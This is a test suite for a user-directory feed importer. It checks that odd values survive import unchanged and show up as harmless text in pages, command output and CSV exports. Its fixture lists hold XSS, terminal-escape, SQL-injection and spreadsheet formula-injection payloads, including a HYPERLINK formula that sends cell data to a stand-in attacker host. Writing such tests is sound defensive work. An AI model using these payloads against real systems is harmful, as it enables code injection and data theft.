import { parse } from 'csv-parse/sync';
import { expect } from 'chai';
import { BatchFormat } from '../../support/batch-formats.js';
import { BYSTANDERS, bystanders } from '../../support/bystanders.js';
import { person, type Person } from '../../support/cli.js';
import { crowd } from '../../support/crowd.js';
import { FeedsSite, unguardedFeeds } from '../../support/feeds-site.js';
import { htmlProblems } from '../../support/html-check.js';
import { SignedIn } from '../../support/http-site.js';
import type { RunSeen } from '../../support/running-daemon.js';

const { JSON: JSON_ARRAY, TSV, CSV, XML } = BatchFormat;

/** Each is a feed, with what it cannot hold as it is. */
const FORMATS = {
  json: { format: JSON_ARRAY, except: /(?!)/ },
  csv: { format: CSV, except: /(?!)/ },
  tsv: { format: TSV, except: /[\t\r\n]/ },
  xml: { format: XML, except: /\r/ },
};

/** What COPY, SQL, JSON or a format could take for something else. */
const ODD = [
  '\\.',
  '\\N',
  '\\',
  '\\\\',
  '\\t\\n\\x41\\101',
  'ends with \\',
  'tab\there',
  '\ttabs\t',
  'line\nfeed',
  'two\n\\.\nlines',
  'carriage\rreturn',
  'both\r\n\\.\r\n',
  '"quotes" and \'quotes\'',
  '"',
  '""',
  `'; drop table directory.account; --`,
  '$1 $$ %s {{x}} ${y}',
  '{1,2}',
  '["a"]',
  'null',
  'NULL',
  '<b>&amp;</b>',
  'e\u0301 \u{1F600} \u202e \ufeff \u2028',
];

describe('Odd values in a dropped file', function () {
  this.timeout(60_000);

  let feeds: FeedsSite;
  let expectNobodyElseTouched: () => Promise<void>;

  before(async () => {
    const names = [...Object.keys(FORMATS), 'names', 'shown'];
    const formats = Object.entries(FORMATS).map(([name, { format }]) => [name, { read: format.read }] as const);
    const json = { read: JSON_ARRAY.read };
    feeds = await FeedsSite.open(
      { ...unguardedFeeds(names), ...BYSTANDERS },
      { formats: { ...Object.fromEntries(formats), names: json, shown: json } },
    );
    expectNobodyElseTouched = await bystanders(feeds);
  });

  afterEach(() => expectNobodyElseTouched());

  after(() => feeds?.[Symbol.asyncDispose]());

  it('arrive exactly as they were sent, and no row is lost', async () => {
    const tests = Object.entries(FORMATS).map(async ([feed, { format, except }]) => {
      const values = ODD.filter((value) => !except.test(value));
      const batch = crowd(feed, values.length, '').map((one, index) => ({
        ...one,
        USERNAME: `${one.USERNAME} ${values[index]!}`,
        FIRST_NAME: values[index]!,
        JOB_TITLE: values[index]!,
      }));
      const run = await feeds.take(feed, format.write(batch));
      expect(run.counts, feed).to.include({ records: values.length, added: values.length, rejected: 0 });
      const seen = await feeds.site.query(`
        select username as "USERNAME", name_first as "FIRST_NAME",
               profile #>> '{std:attribute:job-title,0,value}' as "JOB_TITLE"
        from directory.users join sync.received using (username) where feed = '${feed}'`);
      const expected = batch.map(({ USERNAME, FIRST_NAME, JOB_TITLE }) => {
        return { USERNAME: USERNAME.toLowerCase(), FIRST_NAME, JOB_TITLE };
      });
      expect(seen, feed).to.have.deep.members(expected);
      if (feed !== 'csv') return;
      const again = await feeds.take(feed, format.write(batch.toReversed()));
      expect(again.counts, feed).to.include({ records: values.length, unchanged: values.length });
    });
    await Promise.all(tests);
  });

  it('in a line by themselves end nothing: what follows is taken, and only they are rejected', async () => {
    const tests = (['tsv', 'csv'] as const).map(async (feed) => {
      const { format } = FORMATS[feed];
      const batch = crowd(feed, 20, 'after');
      const [first = '', ...others] = batch.map(format.record);
      const run = await feeds.take(feed, format.file([first, '\\.', '\\N', ...others]));
      expect(run.counts, feed).to.include({ records: 22, rejected: 2, added: 20 });
      await feeds.expectPeople(feed, batch);
      const errors = await feeds.errors(run);
      expect(new Set(errors.map(({ record, code }) => `${record} ${code}`)), feed).to.deep.equal(
        new Set(['2 missing-value', '3 missing-value']),
      );
    });
    await Promise.all(tests);
  });

  it('in usernames follow one rule, are found again by it, and break nothing', async () => {
    const batch = USERNAMES.map(([given], index) =>
      person(index, { USERNAME: given, EMAIL: `name-${index}@example.org` }),
    );
    const run = await feeds.take('names', JSON_ARRAY.write(batch));
    const stored = USERNAMES.map(([, name]) => name).filter((name) => !name.startsWith('!'));
    const rejected = USERNAMES.flatMap(([, code], index) => (code.startsWith('!') ? [[index + 1, code.slice(1)]] : []));
    expect(run).to.include({ status: 'complete', outcome: 'applied' });
    expect(run.counts).to.include({ records: batch.length, added: stored.length, rejected: rejected.length });
    const seen = await feeds.site.query<{ username: string; id: number }>(
      `select username, id from directory.users where feed = 'names' and is_active`,
    );
    expect(seen.map(({ username }) => username)).to.have.members(stored);
    const errors = await feeds.errors(run);
    expect(errors.map(({ record, code }) => [record, code])).to.have.deep.members(rejected);
    expect(errors.find(({ record }) => record === 2)!.message).to.match(/\b1\b/);
    const admin = await signedIn('admin');
    for (const [given, name] of USERNAMES.filter(([, expected]) => !expected.startsWith('!'))) {
      const found = await admin.post('/people', { who: given }, '/people');
      const { id } = seen.find(({ username }) => username === name)!;
      expect([found.status, found.headers.get('location')], JSON.stringify(given)).to.deep.equal([
        303,
        `/people/${id}`,
      ]);
    }
  });

  describe('which a browser, a terminal or a spreadsheet would obey', () => {
    let run: RunSeen;
    let admin: SignedIn;
    let accounts: readonly number[];

    before(async () => {
      const named = (values: readonly string[], more: (index: number) => Person): Person[] =>
        values.map((text, index) =>
          person(index, { USERNAME: `${text} ${index}`, EMAIL: `shown-${index}@example.org`, ...more(index) }),
        );
      await feeds.take('shown', JSON_ARRAY.write(named(OBEYED, (index) => ({ JOB_TITLE: OBEYED.at(index - 1)! }))));
      const batch = named(OBEYED, (index) => {
        const text = OBEYED[index]!;
        return { TITLE: text, FIRST_NAME: text, LAST_NAME: text, JOB_TITLE: text, CARD: text };
      });
      const bad = OBEYED.map((text, index) =>
        person(index, { USERNAME: `${text} bad`, EMAIL: text.replaceAll('@', '') }),
      );
      run = await feeds.take('shown', JSON_ARRAY.write([...batch, ...bad]));
      expect(run.counts).to.include({ updated: OBEYED.length, rejected: OBEYED.length });
      admin = await signedIn('operator');
      const rows = await feeds.site.query<{ id: number }>(`select id from directory.users where feed = 'shown'`);
      accounts = rows.map(({ id }) => id);
    });

    it('are text on every page', async () => {
      const ofRun = ['', '/log', '/log?level=error', '/plan', '/plan?kind=update'].map(
        (path) => `/runs/${run.id}${path}`,
      );
      const ofPeople = accounts.map((id) => `/people/${id}`);
      const shown: string[] = [];
      for (const path of ['/', '/runs', '/feeds', '/feeds/shown', ...ofRun, ...ofPeople])
        shown.push(expectText(await admin.page(path), path));
      for (const text of OBEYED) {
        for (const path of [`/runs/${run.id}/log`, `/runs/${run.id}/plan`])
          expectText(await found(path, { q: text }), path);
        const rejected = await found('/people', { who: `${text} bad` });
        shown.push(expectText(rejected, 'somebody who was rejected'));
        expect(rejected).to.include('invalid-email');
      }
      for (const text of ['&lt;script&gt;alert(1)&lt;/script&gt;', '\\u001b[31mred', '\\u202e', '=cmd|']) {
        expect(shown.filter((page) => page.includes(text)).length, text).to.be.greaterThan(4);
      }
    });

    it('are text in what commands print, and in the log of the program only names are', async () => {
      const id = String(run.id);
      const calls = [
        ['log', id],
        ['plan', id],
        ['user', `${OBEYED[2]!} bad`],
      ];
      const called = await Promise.all(calls.map((args) => feeds.site.call(...args)));
      for (const [index, { code, stdout, stderr }] of called.entries()) {
        const what = calls[index]!.join(' ');
        expect([code, stderr], what).to.deep.equal([0, '']);
        expect(stdout, what).not.to.match(UNPRINTABLE);
        expect(stdout, what).to.match(/<script>alert\(1\)|\\u001b\[31m/);
      }
      expect(JSON.stringify(feeds.daemon.log)).not.to.include('alert(1)').and.not.include('cmd|');
    });

    it('are cells of text in CSV, from the page and from the command, and the batch is only to be kept', async () => {
      const printed = (await feeds.site.call('plan', String(run.id), '--format', 'csv')).stdout;
      const fetched = await admin.get(`/runs/${run.id}/plan.csv`);
      expect(fetched.headers.get('content-disposition')).to.match(/^attachment;/);
      for (const csv of [printed, await fetched.text()]) {
        const rows: string[][] = parse(csv, { relax_column_count: false });
        const cells = rows.flat();
        expect(cells.filter((cell) => /^[=+\-@\t\r\n]/.test(cell))).to.deep.equal([]);
        expect(csv).not.to.match(CONTROL);
        const neutral = OBEYED.filter((text) => /^[=+\-@\t]/.test(text));
        expect(neutral).to.have.length.greaterThan(4);
        for (const text of neutral) expect(cells.filter((cell) => cell === `'${text}`).length, text).to.be.at.least(4);
      }
      const file = await (await signedIn('admin', 'downloader')).get(`/runs/${run.id}/files/users`);
      const headers = ['content-type', 'content-disposition', 'x-content-type-options'].map((name) =>
        file.headers.get(name),
      );
      expect(headers).to.deep.equal([
        'application/octet-stream',
        `attachment; filename="run-${run.id}-users"`,
        'nosniff',
      ]);
    });

    async function found(path: string, fields: Readonly<Record<string, string>>): Promise<string> {
      return (await admin.post(path, fields, '/runs')).text();
    }
  });

  async function signedIn(role: 'admin' | 'operator', name?: string): Promise<SignedIn> {
    const { origin } = await feeds.daemon.logged(/^Listening/, null);
    const server = {
      fetch: (path: string, init: RequestInit = {}) => fetch(new URL(path, origin), { redirect: 'manual', ...init }),
    };
    return SignedIn.to(server, feeds.site.testDatabase.database, role, name);
  }
});

/** What moves a cursor, hides or reorders text. */
// eslint-disable-next-line no-control-regex
const UNPRINTABLE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;

/** Spreadsheets may have tabs and line ends in their cells. */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;

const OBEYED = [
  '<script>alert(1)</script>',
  `"onmouseover="alert(1)" '><img src=x onerror=alert(1)>`,
  '\u001b[31mred\u001b]0;title\u0007\u009b2J',
  'moved\u202etxt.exe\u2066\u200b\u2028',
  `=cmd|'/C calc'!A0`,
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=cmd|x',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  'javascript:alert(1)',
  '&lt;b&gt; &amp;#60;',
  '</pre></td></table><h1>mine</h1>',
];

/** What a username is sent as, and what it is then; with `!` the code that the record is rejected with. */
const USERNAMES: readonly (readonly [string, string])[] = [
  ['Ada', 'ada'],
  ['ADA', '!duplicate-username'],
  ['aDa', '!duplicate-username'],
  [' ada', ' ada'],
  ['ada ', 'ada '],
  ['ada\u00a0', 'ada\u00a0'],
  ['a d a', 'a d a'],
  ['a\td\na', 'a\td\na'],
  ['MÜLLER', 'müller'],
  ['Müller', '!duplicate-username'],
  ['mu\u0308ller', 'mu\u0308ller'],
  ['İ', 'i\u0307'],
  ['i\u0307', '!duplicate-username'],
  ['I', 'i'],
  ['ı', 'ı'],
  ['ẞ', 'ß'],
  ['ß', '!duplicate-username'],
  ['SS', 'ss'],
  ['ΟΔΟΣ', 'οδος'],
  ['οδοσ', 'οδοσ'],
  ['😀', '😀'],
  [`'; DROP TABLE directory.account; --`, `'; drop table directory.account; --`],
  ['%', '%'],
  ['_', '_'],
  ['\\', '\\'],
  ['\\.', '\\.'],
  ['null', 'null'],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['toString', 'tostring'],
  ['<b>', '<b>'],
  ['0', '0'],
  ['X'.repeat(255), 'x'.repeat(255)],
  ['x'.repeat(256), '!missing-username'],
  ['x'.repeat(10_000), '!missing-username'],
  ['İ'.repeat(200), '!missing-username'],
  ['', '!missing-username'],
];

/** @returns the page, as long as it is one of ours */
function expectText(page: string, what: string): string {
  expect(htmlProblems(page), what).to.deep.equal([]);
  const body = page
    .slice(page.indexOf('<body>'))
    .replaceAll(/value="[^"]*"/g, '')
    .replaceAll('\n', '');
  expect(body.match(UNPRINTABLE)?.[0], what).to.equal(undefined);
  return page;
}
